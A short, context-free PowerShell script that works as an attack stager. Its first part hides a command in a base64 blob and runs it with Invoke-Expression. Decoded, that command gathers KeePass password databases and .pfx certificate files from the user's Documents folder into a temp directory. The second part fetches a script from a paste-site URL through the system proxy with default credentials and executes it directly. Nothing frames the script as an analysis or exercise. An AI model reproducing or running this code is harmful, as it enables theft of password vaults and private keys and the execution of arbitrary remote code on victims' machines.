$blob = 'RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQAgACQAZQBuAHYAOgBVAFMARQBSAFAAUgBPAEYASQBMAEUAXABEAG8AYwB1AG0AZQBuAHQAcwAgAC0ASQBuAGMAbAB1AGQAZQAgACoALgBrAGQAYgB4ACwAKgAuAHAAZgB4ACAALQBSAGUAYwB1AHIAcwBlACAAfAAgAEMAbwBwAHkALQBJAHQAZQBtACAALQBEAGUAcwB0AGkAbgBhAHQAaQBvAG4AIAAkAGUAbgB2ADoAVABFAE0AUABcAGMA'
$text = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($blob))
Invoke-Expression $text

$p = [System.Net.WebRequest]::DefaultWebProxy.GetProxy('https://pastebin.example')
iwr -Uri 'https://pastebin.example/raw/x8Kq' -Proxy $p -ProxyUseDefaultCredentials -UseBasicParsing | iex
